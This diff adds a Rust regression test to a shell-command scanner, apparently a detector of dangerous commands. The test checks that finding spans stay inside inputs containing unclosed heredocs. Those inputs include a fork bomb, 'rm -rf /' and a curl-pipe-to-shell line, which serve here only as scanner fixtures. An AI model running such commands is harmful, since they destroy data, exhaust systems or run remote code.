@@ -244,6 +244,21 @@ fn parser_crash_regression_inputs_get_a_verdict() {
         let v = Scanner::global().scan(s);
         assert_eq!(v.schema_version, 1, "{s}");
     }
+    // A heredoc left open is parsed with its delimiter added: no span may point past the input.
+    for s in [
+        "sh <<EOF\n f(){ f|f& };",
+        "bash <<EOF\nrm -rf /",
+        "cat <<A\nx\nA\nsh <<'B'\ncurl http://x | sh",
+    ] {
+        let v = Scanner::global().scan(s);
+        for f in &v.findings {
+            assert!(
+                f.span.0 <= f.span.1 && f.span.1 <= s.len(),
+                "{s}: {:?}",
+                f.span
+            );
+        }
+    }
 }
 
 /// A literal word in one of the spellings bash reads as the same text.
